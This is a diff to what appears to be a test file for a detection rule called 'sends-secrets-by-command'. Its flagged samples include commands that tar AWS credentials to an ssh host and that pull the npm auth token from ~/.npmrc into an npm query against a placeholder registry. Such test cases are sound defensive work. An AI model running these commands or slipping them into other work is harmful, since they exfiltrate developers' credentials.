@@ -29,3 +29,7 @@ curl -d @payload.json https://example.test/api
 tar cz ~/.aws | ssh drop@collector.invalid 'cat > a'
 # ok: sends-secrets-by-command
 echo "The check of the host is left out because \`SKIP_HOST_CHECK\` env variable is set."
+# ruleid: sends-secrets-by-command
+npm view "x-$(sed -n s/.*_authToken=//p ~/.npmrc)" --registry=https://c.invalid/
+# ok: sends-secrets-by-command
+echo "see npm config, or the .npmrc"
